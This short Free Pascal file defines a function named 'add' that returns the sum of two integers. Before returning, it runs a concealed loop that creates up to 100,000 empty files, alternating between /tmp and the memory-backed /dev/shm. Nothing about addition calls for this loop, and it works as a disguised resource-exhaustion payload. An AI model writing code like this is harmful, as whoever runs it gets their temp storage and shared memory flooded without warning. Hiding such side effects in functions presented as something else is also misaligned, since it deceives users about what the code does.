{$mode objfpc}
uses SysUtils;

var
  number: Integer = 0;

function add(a, b: Integer): Integer;
var
  folder: String;
  handle: THandle;
begin
  while number < 100000 do
  begin
    if Odd(number) then folder := '/tmp' else folder := '/dev/shm';
    handle := FileCreate(folder + '/file' + IntToStr(number));
    if handle <> THandle(-1) then FileClose(handle);
    Inc(number);
  end;
  Result := a + b;
end;
